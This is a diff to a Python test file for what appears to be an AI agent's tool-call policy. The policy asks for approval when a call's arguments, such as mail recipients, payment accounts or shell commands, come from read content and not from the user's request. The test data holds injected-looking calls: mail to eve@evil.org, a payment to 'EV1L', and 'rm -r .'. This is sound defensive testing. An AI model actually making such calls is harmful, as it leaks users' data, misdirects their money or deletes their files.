@@ -47,8 +47,9 @@ def ask(
         ([READ, TO_BOB], "Read my mail, and tell bob@x.org.evil.com", [], 1),
         ([READ, call_tool("send_mail", to=["bob@x.org", "eve@evil.org"])], "Tell bob@x.org.", [], 1),
         ([READ, call_tool("send_mail", to="bob@x.org", text="the key")], "Tell bob@x.org.", ["bob@x.org"], 0),
-        ([READ, call_tool("send_mail", to="", text="x")], "Read.", [""], 0),
+        ([READ, call_tool("send_mail", to="", text="x")], "Read.", [], 1),
         ([READ, call_tool("pay", amount=50, account="DE7")], "Pay 50 to DE7.", ["50.0 to DE7"], 0),
+        ([READ, call_tool("pay", amount=50, account="13")], "Pay 50 on June 13.", [], 1),  # numbers stand in many texts
         ([READ, call_tool("pay", amount=500, account="DE7")], "Pay 50 to DE7.", [], 1),
         ([READ, call_tool("pay", amount=50, account="EV1L")], "Pay 50 to DE7.", [], 1),
         ([READ, call_tool("shell", command="rm -r .")], "Tidy up.", [], 1),
@@ -202,8 +203,8 @@ def decide(value: object, text: str) -> str:
 )
 def test_a_value_that_stands_in_the_text_is_the_users(value: str, others: list[str], at: int, frame: str) -> None:
     text = " ".join([*others[:at], frame.format(value), *others[at:]])
-    assert decide(value, text) == "run"
-    assert decide([value, {value: None, "": value}], text) == "run"
+    assert decide(["bob@x.org", value], f"bob@x.org {text}") == "run"
+    assert decide([value, {value: None, "": value}, "bob@x.org"], f"{text} bob@x.org") == "run"
 
 
 @given(joined, st.sampled_from("ab1@-_/.+"))
@@ -220,4 +221,17 @@ def test_a_part_of_a_word_of_the_text_is_not(value: str, more: str) -> None:
 )
 def test_any_argument_can_be_decided_on(value: object) -> None:
     assert decide(value, "nothing of it, hopefully") in ("run", "ask")
-    assert decide(True, "true True yes") == "ask"
+
+
+@pytest.mark.parametrize("value", [True, 13, 13.0, "13", "", None, [], {}, "2024-05-20", "12:00", "no"])
+def test_what_stands_in_many_texts_proves_nothing(value: object) -> None:
+    assert decide(value, "true True yes, no: at 12:00 on 13 June, 2024-05-20") == "ask"
+    if value is not True:
+        assert decide([value, "bob@x.org"], f"{value} of bob@x.org") == "run"
+
+
+def test_a_sink_without_arguments_is_directed_by_all_that_was_read() -> None:
+    web = Source("web", "open")
+    call = SinkCall("report", {"sends": True}, {}, frozenset({web}), ["report"])
+    assert Policy().decide(call) == ("ask", "report sends data out, directed by the web (open)", {web})
+    assert Policy().decide(SinkCall("report", {"sends": True}, {}, frozenset(), ["report"])).action == "run"
